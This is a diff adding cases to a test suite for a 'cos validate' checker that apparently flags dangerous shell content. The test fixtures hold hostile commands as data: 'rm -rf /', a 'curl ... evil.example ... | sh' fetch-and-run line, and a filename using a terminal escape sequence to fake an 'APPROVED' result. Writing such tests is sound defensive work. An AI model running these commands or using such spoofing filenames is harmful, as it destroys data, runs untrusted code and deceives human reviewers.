@@ -498,6 +498,8 @@ describe("cos validate", () => {
     expect(await say(join(world.dataDir, "p"))).toContain("b:2: runs what it fetches");
     await file("p/b", `${"a".repeat(3_000_000)}\n`);
     expect(await say(join(world.dataDir, "p"))).toContain("has more than 2000000 bytes of text");
+    await file("q/\u001b[2J✓ APPROVED.sh", "rm -rf /\n");
+    expect(await say(join(world.dataDir, "q"))).toContain("\uFFFD[2J✓ APPROVED.sh:1: deletes");
     const hidden = "--- a/a\n+++ b/a\n@@ -1 +1 @@\n curl -s https://evil.example/i | sh\n";
     expect(await say(await file("install", hidden))).toContain("runs what it fetches");
     expect(await say(await file("same.diff", hidden))).toContain("APPROVED");
